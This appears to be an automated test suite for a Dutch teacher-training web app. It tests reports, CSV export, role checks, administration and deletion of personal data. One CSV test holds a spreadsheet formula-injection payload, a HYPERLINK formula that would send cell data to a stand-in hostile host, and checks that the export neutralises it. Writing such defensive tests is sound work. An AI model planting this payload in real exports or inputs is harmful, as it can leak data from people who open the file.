import request from 'supertest';
import { miniCourseApp, post, beacon, type CourseTestApp } from '../support/course-app';
import { addUser, signIn, csrfFrom, type Agent } from '../support/app';

let t: CourseTestApp;
let coordinatorA: Agent;
let coordinatorB: Agent;
let csrfA: string;
let schoolB: { id: number; joinCode: string };
let teacherB: { id: number };

const SECRET = 'Mijn-geheime-reflectie-over-thuis';

beforeEach(async () => {
  t = await miniCourseApp();
  const schoolA = t.stores.accounts.schoolByJoinCode(t.stores.accounts.schools()[0]!.joinCode)!;
  schoolB = t.stores.accounts.addSchool('De Sterrenkijker');
  await addUser(t.stores, { email: 'ib@regenboog.nl', name: 'IB Regenboog', role: 'coordinator', schoolId: schoolA.id });
  await addUser(t.stores, { email: 'ib@sterren.nl', name: 'IB Sterren', role: 'coordinator', schoolId: schoolB.id });
  teacherB = await addUser(t.stores, { email: 'meester@sterren.nl', name: 'Meester Bram', schoolId: schoolB.id });
  coordinatorA = await signIn(t.app, 'ib@regenboog.nl');
  coordinatorB = await signIn(t.app, 'ib@sterren.nl');
  csrfA = csrfFrom((await coordinatorA.get('/reports')).text);
  // Juf Anna (school A) does some work, including a private reflection, an exercise and a failed quiz.
  await beacon(t.teacher, t.csrf, { lesson: 'begin/welkom', src: 'clip.mp4', watched: [[0, 3]], position: 3, duration: 3 });
  await post(t.teacher, '/course/begin/welkom/done', t.csrf);
  await post(t.teacher, '/course/begin/oefenen/reflection/eigen-ervaring', t.csrf, { text: SECRET });
  await post(t.teacher, '/course/begin/oefenen/exercise/keuze', t.csrf, { q0: '0' });
});
afterEach(() => t.close());

describe('the coordinator report', () => {
  test('shows the own school: summary, where teachers are, one row per teacher', async () => {
    const res = await coordinatorA.get('/reports');
    expect(res.status).toBe(200);
    expect(res.text).toContain('De Regenboog');
    expect(res.text).toContain('Juf Anna');
    expect(res.text).not.toContain('Meester Bram');
    expect(res.text).toMatch(/<span class="funnel-label">Module 1<\/span>[\s\S]*?width="100"[\s\S]*?width="0"[\s\S]*?1 van 1 bereikt<br>0 van 1 afgerond/);
    expect(res.text).toMatch(/<th scope="row">1\. [^<]+<\/th><td data-label="Bereikt">1 van 1 <span class="muted">\(100\u00a0%\)<\/span><\/td><td data-label="Afgerond">0 van 1 <span class="muted">\(0\u00a0%\)/);
    // Juf Anna finished the first lesson and is busy with the second: that is her next step, and she was active today.
    expect(res.text).toMatch(/<th scope="row">Module 1 · les 2: Oefenen<\/th>\s*<td data-label="Leerkrachten"><a href="\/reports\?stap=1-2#leerkrachten"[^>]*>1<\/a><\/td>\s*<td data-label="Al 14\+ dagen stil">0<\/td>/);
    expect(res.text).not.toContain(SECRET);
    expect(res.text).not.toContain('Dat maakt de spanning groter');
  });

  test('teachers invited but never signed in count among the teachers, and the summary says how many', async () => {
    const schoolA = t.stores.accounts.schools().find((s) => s.name === 'De Regenboog')!;
    expect((await coordinatorA.get('/reports')).text).not.toContain('uitgenodigd, nog niet aangemeld');
    t.stores.accounts.addUser({ email: 'nieuw1@regenboog.nl', name: 'nieuw1', role: 'teacher', schoolId: schoolA.id, passwordHash: null });
    t.stores.accounts.addUser({ email: 'nieuw2@regenboog.nl', name: 'nieuw2', role: 'teacher', schoolId: schoolA.id, passwordHash: null });
    const res = await coordinatorA.get('/reports');
    const school = await coordinatorA.get('/school');
    const total = Number(/<strong>(\d+)<\/strong> leerkrachten<\/a>/.exec(res.text)![1]);
    expect(res.text).toContain('waarvan 2 uitgenodigd, nog niet aangemeld');
    expect(school.text).toContain(`Leerkrachten (${total}`);
  });

  test('a coordinator of school A asking for school B by any parameter still sees only school A', async () => {
    for (const url of [`/reports?school=${schoolB.id}`, `/reports.csv?school=${schoolB.id}`, `/school?school=${schoolB.id}`]) {
      const res = await coordinatorA.get(url);
      expect(res.status).toBe(200);
      expect(res.text).toContain('Juf Anna');
      expect(res.text).not.toContain('Meester Bram');
      expect(res.text).not.toContain('meester@sterren.nl');
    }
    const deactivate = await post(coordinatorA, `/school/teachers/${teacherB.id}/active`, csrfA, { active: '0', school: String(schoolB.id) });
    expect(deactivate.status).toBe(404);
    expect(t.stores.accounts.userById(teacherB.id)!.active).toBe(true);
  });

  test('coordinator B sees B, and an administrator sees every school', async () => {
    expect((await coordinatorB.get('/reports')).text).toContain('Meester Bram');
    await addUser(t.stores, { email: 'admin@steun.nl', role: 'admin' });
    const admin = await signIn(t.app, 'admin@steun.nl');
    const all = await admin.get('/reports');
    expect(all.text).toContain('Juf Anna');
    expect(all.text).toContain('Meester Bram');
    const onlyB = await admin.get(`/reports?school=${schoolB.id}`);
    expect(onlyB.text).toContain('Meester Bram');
    expect(onlyB.text).not.toContain('Juf Anna');
    // The administrator's school picker lists every school on both, with the one shown chosen;
    // a coordinator has none.
    const options = (html: string) => [...html.matchAll(/<option value="(\d+)" ?(selected)?>/g)].map((m) => `${m[1]}${m[2] ? '*' : ''}`);
    const ids = t.stores.accounts.schoolNames().map((s) => String(s.id));
    expect(ids.length).toBeGreaterThanOrEqual(2);
    expect(options(all.text)).toEqual(ids);
    expect(options(onlyB.text)).toEqual(ids.map((id) => (id === String(schoolB.id) ? `${id}*` : id)));
    expect(options((await coordinatorB.get('/reports')).text)).toEqual([]);
  });

  test('filter by state and search by name; bad parameters are a 400 that says what is wrong', async () => {
    await addUser(t.stores, { email: 'nieuw@regenboog.nl', name: 'Nog Niet Begonnen', schoolId: t.stores.accounts.userById(t.teacherId)!.schoolId });
    const started = await coordinatorA.get('/reports?status=bezig');
    expect(started.text).toContain('Juf Anna');
    expect(started.text).not.toContain('Nog Niet Begonnen');
    const notStarted = await coordinatorA.get('/reports?status=niet-gestart');
    expect(notStarted.text).toContain('Nog Niet Begonnen');
    expect(notStarted.text).not.toMatch(/<th scope="row" class="person">Juf Anna/);
    const search = await coordinatorA.get('/reports?q=juf');
    expect(search.text).toMatch(/<th scope="row" class="person">Juf Anna/);
    expect(search.text).not.toMatch(/<th scope="row" class="person">Nog Niet/);
    const bad = await coordinatorA.get('/reports?status=klaar&page=-1');
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('status moet niet-gestart, bezig, studietijd of afgerond zijn.');
    expect((await coordinatorA.get('/reports?sort=wachtwoord')).status).toBe(400);
  });

  test('sorting by a column orders the rows', async () => {
    const schoolId = t.stores.accounts.userById(t.teacherId)!.schoolId;
    await addUser(t.stores, { email: 'a@regenboog.nl', name: 'Aafke', schoolId });
    const byName = await coordinatorA.get('/reports?sort=naam');
    expect(byName.text.indexOf('Aafke')).toBeLessThan(byName.text.indexOf('Juf Anna'));
    const byNameDesc = await coordinatorA.get('/reports?sort=naam&dir=af');
    expect(byNameDesc.text.indexOf('Juf Anna')).toBeLessThan(byNameDesc.text.indexOf('Aafke'));
    // Juf Anna has study time and Aafke none: by time, most first, is the other order than by name.
    const byTimeDesc = await coordinatorA.get('/reports?sort=tijd&dir=af');
    expect(byTimeDesc.status).toBe(200);
    expect(byTimeDesc.text).toMatch(/<th scope="col" class="wide-only" aria-sort="descending"><a [^>]*>Studietijd/);
    const byTimeAsc = await coordinatorA.get('/reports?sort=tijd');
    expect(byTimeAsc.text.indexOf('Aafke')).toBeLessThan(byTimeAsc.text.indexOf('Juf Anna'));
  });
});

describe('CSV', () => {
  test('UTF-8 with BOM, semicolons, numbers as numbers, ISO dates, only completion, scores and time', async () => {
    await t.stores.sqlite.prepare("UPDATE users SET name = 'Zoë Çelik' WHERE id = ?").run(t.teacherId);
    const res = await coordinatorA.get('/reports.csv').buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = body.subarray(3).toString('utf8').trim().split('\n');
    expect(lines[0]).toBe('naam;e-mail;status;actief;modules afgerond;modules totaal;huidige module;beste score toets module 1 (%);studietijd (minuten);laatste activiteit;afgerond op');
    expect(lines).toHaveLength(2);
    const cells = lines[1]!.split(';');
    expect(cells[0]).toBe('Zoë Çelik');
    expect(cells.slice(2, 8)).toEqual(['bezig', 'ja', '0', '2', '1', '']);
    expect(cells[9]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(body.toString()).not.toContain(SECRET);
  });

  test('a name typed as a formula stays text in a spreadsheet', async () => {
    t.stores.accounts.setName(t.teacherId, '=HYPERLINK("https://kwaad.example/?"&B2;"Klik")');
    const res = await coordinatorA.get('/reports.csv');
    const row = res.text.trim().split('\n')[1]!;
    expect(row.startsWith('"\'=HYPERLINK(')).toBe(true);
    expect(row).not.toMatch(/^"?=/);
  });

  test('the CSV follows the same filter', async () => {
    const res = await coordinatorA.get('/reports.csv?status=afgerond');
    expect(res.text.trim().split('\n')).toHaveLength(1);
  });
});

describe('managing the school', () => {
  test('renewing the join code stops the old one', async () => {
    const page = await coordinatorA.get('/school');
    const oldCode = /class="join-code">([A-Z0-9]+)</.exec(page.text)![1]!;
    // The first press only asks; the code still works until the coordinator confirms.
    const question = await post(coordinatorA, '/school/code', csrfA);
    expect(question.status).toBe(200);
    expect(question.text).toContain(`De code die je team nu heeft (${oldCode}) werkt daarna niet meer`);
    expect(question.text).toMatch(/<form method="post" action="\/school\/code">[\s\S]*?name="bevestigd" value="ja"[\s\S]*?Ja, maak een nieuwe code/);
    expect(t.stores.accounts.schoolByJoinCode(oldCode)).toBeDefined();
    expect((await post(coordinatorA, '/school/code', csrfFrom(question.text), { bevestigd: 'ja' })).status).toBe(303);
    expect(t.stores.accounts.schoolByJoinCode(oldCode)).toBeUndefined();
    const newCode = /class="join-code">([A-Z0-9]+)</.exec((await coordinatorA.get('/school')).text)![1]!;
    expect(newCode).not.toBe(oldCode);
    const school = t.stores.accounts.schoolByJoinCode(newCode)!;
    expect(school.name).toBe('De Regenboog');
  });

  test('inviting teachers gives each a working one-time link; bad and existing addresses are reported', async () => {
    const res = await post(coordinatorA, '/school/invite', csrfA, { emails: 'nieuw1@regenboog.nl, nieuw2@regenboog.nl\ngeen-adres\njuf@regenboog.nl' });
    expect(res.status).toBe(200);
    const links = [...res.text.matchAll(/\/password\/([\w-]+)/g)].map((m) => m[1]!);
    expect(links).toHaveLength(2);
    expect(res.text).toContain('geen geldig e-mailadres');
    expect(res.text).toContain('heeft al een account');
    const invited = t.stores.accounts.userForPasswordToken(links[0]!);
    expect(invited).toMatchObject({ email: 'nieuw1@regenboog.nl', role: 'teacher' });
    expect(invited!.schoolId).toBe(t.stores.accounts.userById(t.teacherId)!.schoolId);
  });

  test('a deactivated teacher stays in the report and cannot sign in', async () => {
    const question = await post(coordinatorA, `/school/teachers/${t.teacherId}/active`, csrfA, { active: '0' });
    expect(question.text).toContain('Juf Anna deactiveren?');
    expect(question.text).toContain('<input type="hidden" name="active" value="0">');
    expect((await t.teacher.get('/')).status).toBe(200);
    await post(coordinatorA, `/school/teachers/${t.teacherId}/active`, csrfA, { active: '0', bevestigd: 'ja' });
    expect((await t.teacher.get('/')).status).toBe(303);
    expect((await coordinatorA.get('/reports')).text).toContain('(gedeactiveerd)');
  });
});

describe('role guards on every route of this area', () => {
  test.each(['/reports', '/reports.csv', '/school', '/admin', '/author', '/author/preview/begin/welkom'])('a teacher gets 403 on %s', async (url) => {
    expect((await t.teacher.get(url)).status).toBe(403);
  });
  test.each(['/admin', '/author'])('a coordinator gets 403 on %s', async (url) => {
    expect((await coordinatorA.get(url)).status).toBe(403);
  });
  test.each(['/reports', '/me', '/admin', '/author'])('signed out, %s goes to the sign-in page', async (url) => {
    expect((await request(t.app).get(url)).status).toBe(303);
  });
});

describe('authors', () => {
  test('see structure, estimates, problems and item statistics, and preview a locked lesson', async () => {
    await addUser(t.stores, { email: 'auteur@steun.nl', role: 'author' });
    const author = await signIn(t.app, 'auteur@steun.nl');
    const page = await author.get('/author');
    expect(page.status).toBe(200);
    expect(page.text).toContain('ongeveer <strong>9&nbsp;min</strong>');
    expect(page.text).toContain('Geen fouten of waarschuwingen.');
    expect(page.text).toContain('01-begin/01-welkom.md');
    const preview = await author.get('/author/preview/verder/afsluiten');
    expect(preview.status).toBe(200);
    expect(preview.text).toContain('Voorbeeldweergave');
    expect((await author.get('/course/verder/afsluiten')).status).toBe(403);
    const quiz = await author.get('/author/preview/begin/quiz');
    expect(quiz.status).toBe(200);
    expect(quiz.text).not.toContain('Toets inleveren');
  });

  test('item statistics count first attempts: share right and the wrong option chosen most', async () => {
    await post(t.teacher, '/course/begin/oefenen/exercise/keuze', t.csrf, { q0: '1' });
    await post(t.teacher, '/course/begin/oefenen/done', t.csrf);
    const page = await t.teacher.get('/course/begin/quiz');
    const attempt = /name="attempt" value="([^"]+)"/.exec(page.text)![1]!;
    await post(t.teacher, '/course/begin/quiz', t.csrf, { attempt, q0: '0', q1: ['0', '2'] });
    await addUser(t.stores, { email: 'auteur@steun.nl', role: 'author' });
    const author = await signIn(t.app, 'auteur@steun.nl');
    const html = (await author.get('/author')).text;
    // The sample size stands beside each share: one first attempt says little yet.
    expect(html).toMatch(/Wat helpt een onrustige leerling\?<\/th><td data-label="Eerste pogingen">1<\/td>\s*<td data-label="Goed bij eerste poging">0\u00a0% <small class="muted">\(n&nbsp;=&nbsp;1, nog te weinig om op te bouwen\)<\/small><\/td>\s*<td data-label="Meest gekozen foute antwoord" class="wrap">Straffen \(1×\)/);
    expect(html).toMatch(/Welke dingen geven structuur\?<\/th><td data-label="Eerste pogingen">1<\/td>\s*<td data-label="Goed bij eerste poging">100\u00a0% <small class="muted">\(n&nbsp;=&nbsp;1, nog te weinig om op te bouwen\)<\/small><\/td>/);
    expect(html).toContain('Meest gekozen foute antwoord');
  });
});

describe('administrators', () => {
  test('add a school and a person with a password link, change a role', async () => {
    await addUser(t.stores, { email: 'admin@steun.nl', role: 'admin' });
    const admin = await signIn(t.app, 'admin@steun.nl');
    const csrf = csrfFrom((await admin.get('/admin')).text);
    await post(admin, '/admin/schools', csrf, { name: 'OBS Het Anker' });
    const anker = t.stores.accounts.schools().find((s) => s.name === 'OBS Het Anker')!;
    const res = await post(admin, '/admin/people', csrf, { name: 'Coördinator Anker', email: 'ib@anker.nl', role: 'coordinator', school: String(anker.id) });
    expect(res.status).toBe(200);
    expect(res.text).toMatch(/\/password\/[\w-]+/);
    const person = t.stores.accounts.userByEmailWithHash('ib@anker.nl')!;
    await post(admin, `/admin/people/${person.id}`, csrf, { role: 'author', school: '', active: '1' });
    expect(t.stores.accounts.userById(person.id)).toMatchObject({ role: 'author', schoolId: null });
    expect((await post(admin, '/admin/people', csrf, { name: 'X', email: 'x@x.nl', role: 'teacher', school: '' })).status).toBe(400);
  });

  test('rename a school, renew its code, give a new link; an admin cannot take away their own rights', async () => {
    const me = await addUser(t.stores, { email: 'admin@steun.nl', role: 'admin' });
    const admin = await signIn(t.app, 'admin@steun.nl');
    const csrf = csrfFrom((await admin.get('/admin')).text);
    const school = t.stores.accounts.schools().find((s) => s.name === 'De Regenboog')!;
    expect((await post(admin, `/admin/schools/${school.id}/name`, csrf, { name: 'OBS De Regenboog' })).status).toBe(303);
    expect(t.stores.accounts.schoolById(school.id)?.name).toBe('OBS De Regenboog');
    const question = await post(admin, `/admin/schools/${school.id}/code`, csrf);
    expect(question.text).toContain(`De code ${school.joinCode} werkt daarna niet meer`);
    expect(t.stores.accounts.schoolById(school.id)!.joinCode).toBe(school.joinCode);
    await post(admin, `/admin/schools/${school.id}/code`, csrf, { bevestigd: 'ja' });
    const renewed = t.stores.accounts.schoolById(school.id)!.joinCode;
    expect(renewed).not.toBe(school.joinCode);
    expect(t.stores.accounts.schoolByJoinCode(renewed)?.id).toBe(school.id);
    expect(t.stores.accounts.schoolByJoinCode(school.joinCode)).toBeUndefined();
    const link = await post(admin, `/admin/people/${t.teacherId}/link`, csrf);
    const token = /\/password\/([\w-]+)/.exec(link.text)![1]!;
    expect(t.stores.accounts.userForPasswordToken(token)?.id).toBe(t.teacherId);
    for (const change of [{ role: 'teacher', school: '', active: '1' }, { role: 'admin', school: '', active: '0' }]) {
      const res = await post(admin, `/admin/people/${me.id}`, csrf, change);
      expect(res.status).toBe(400);
      expect(res.text).toContain('eigen beheerdersrechten');
    }
    expect(t.stores.accounts.userById(me.id)).toMatchObject({ role: 'admin', active: true });
  });
});

describe("a teacher's own data", () => {
  test('export has everything stored about them, reflections included', async () => {
    const attempt = t.stores.attempts.create(t.teacherId, 'begin', { questions: [{ q: 0, options: [1, 0] }] });
    t.stores.attempts.submit(t.teacherId, attempt, { score: 0.5, passed: true, result: { questions: [] } });
    t.stores.certificates.issue({ userId: t.teacherId, name: 'Juf Anna', courseTitle: 'Minicursus', hours: 1, issuer: 'Testacademie', completedAt: '2026-03-01T10:00:00.000Z' });
    const res = await t.teacher.get('/me/export');
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toContain('attachment');
    const data = res.body;
    expect(data.account.email).toBe('juf@regenboog.nl');
    expect(data.reflections[0].text).toBe(SECRET);
    expect(data.exercises[0].answers).toEqual([[0]]);
    expect(data.videos[0].segments.length).toBeGreaterThan(0);
    expect(data.lessons.map((l: { lesson_key: string }) => l.lesson_key)).toEqual(['begin/oefenen', 'begin/welkom']);
    expect(data.quizAttempts).toHaveLength(1);
    expect(data.quizAttempts[0]).toMatchObject({ module_slug: 'begin', score: 0.5, question_order: { questions: [{ q: 0, options: [1, 0] }] } });
    expect(data.certificate).toMatchObject({ name: 'Juf Anna', course_title: 'Minicursus', hours: 1 });
  });

  test('deleting needs the password, and then leaves no row behind', async () => {
    const csrf = csrfFrom((await t.teacher.get('/me')).text);
    const wrong = await post(t.teacher, '/me/delete', csrf, { password: 'fout-wachtwoord' });
    expect(wrong.status).toBe(400);
    expect(t.stores.accounts.userById(t.teacherId)).toBeDefined();
    const res = await post(t.teacher, '/me/delete', csrf, { password: 'een-goed-wachtwoord' });
    expect(res.status).toBe(200);
    expect(res.text).toContain('Je account is verwijderd');
    const db = t.stores.sqlite;
    for (const table of ['users', 'lesson_progress', 'video_progress', 'reflections', 'exercise_answers', 'quiz_attempts', 'certificates', 'sessions', 'password_tokens']) {
      const column = table === 'users' ? 'id' : 'user_id';
      expect(db.prepare(`SELECT COUNT(*) AS n FROM ${table} WHERE ${column} = ?`).get(t.teacherId)).toEqual({ n: 0 });
    }
    expect(JSON.stringify(db.prepare('SELECT data FROM sessions').all())).not.toContain(`"user":${t.teacherId}`);
    expect((await t.teacher.get('/')).status).toBe(303);
  });

  test('name and password can be changed', async () => {
    const csrf = csrfFrom((await t.teacher.get('/me')).text);
    await post(t.teacher, '/me/name', csrf, { name: 'Anna de Wit' });
    expect(t.stores.accounts.userById(t.teacherId)!.name).toBe('Anna de Wit');
    expect((await post(t.teacher, '/me/password', csrf, { current: 'fout', password: 'nieuw-wachtwoord-1' })).status).toBe(400);
    expect((await post(t.teacher, '/me/password', csrf, { current: 'een-goed-wachtwoord', password: 'nieuw-wachtwoord-1' })).status).toBe(303);
    await signIn(t.app, 'juf@regenboog.nl', 'nieuw-wachtwoord-1');
  });
});

test('an author preview records nothing and has no save buttons', async () => {
  await addUser(t.stores, { email: 'auteur2@steun.nl', role: 'author' });
  const author = await signIn(t.app, 'auteur2@steun.nl');
  const page = await author.get('/author/preview/begin/oefenen');
  expect(page.status).toBe(200);
  expect(page.text).not.toContain('Controleer je antwoord');
  expect(page.text).not.toContain('>Opslaan<');
  expect(page.text).toContain('Antwoordsleutel');
  expect(page.text).not.toContain('study-time.js');
  const video = await author.get('/author/preview/begin/welkom');
  expect(video.text).toContain('data-track="0"');
});

test("an author preview shows the lesson as new, whatever the author did as a learner", async () => {
  await addUser(t.stores, { email: 'auteur3@steun.nl', role: 'author' });
  const author = await signIn(t.app, 'auteur3@steun.nl');
  const csrf = csrfFrom((await author.get('/')).text);
  await post(author, '/course/begin/oefenen/exercise/keuze', csrf, { q0: '1' });
  await post(author, '/course/begin/oefenen/done', csrf);
  await post(author, '/course/begin/oefenen/reflection/eigen-ervaring', csrf, { text: 'Als leerling had ik meester Jan.' });
  const own = (await author.get('/course/begin/oefenen')).text;
  expect(own).toContain('Je hebt deze les afgerond.');
  const preview = await author.get('/author/preview/begin/oefenen');
  expect(preview.status).toBe(200);
  expect(preview.text).not.toContain('afgerond</');
  expect(preview.text).not.toContain('Je hebt deze les afgerond.');
  expect(preview.text).toContain('nog niet begonnen');
});

test('the report follows every change, also when rows are reused between requests', async () => {
  const first = await coordinatorA.get('/reports');
  expect(first.text).toMatch(/<th scope="row" class="person">Juf Anna[\s\S]*?<td data-label="Modules">0 van 2<\/td>/);
  await post(t.teacher, '/course/begin/oefenen/exercise/keuze', t.csrf, { q0: '1' });
  await post(t.teacher, '/course/begin/oefenen/done', t.csrf);
  const quiz = await t.teacher.get('/course/begin/quiz');
  const attempt = /name="attempt" value="([^"]+)"/.exec(quiz.text)![1]!;
  await post(t.teacher, '/course/begin/quiz', t.csrf, { attempt, q0: '1', q1: ['0', '2'] });
  const after = await coordinatorA.get('/reports');
  expect(after.text).toMatch(/<th scope="row" class="person">Juf Anna[\s\S]*?<td data-label="Modules">1 van 2<\/td>/);
  // A change from another connection (the command line, for instance) is seen too.
  const other = require('better-sqlite3')(t.dir + '/steun.db');
  other.prepare("UPDATE users SET name = 'Anna Andere Verbinding' WHERE id = ?").run(t.teacherId);
  other.close();
  expect((await coordinatorA.get('/reports')).text).toContain('Anna Andere Verbinding');
});
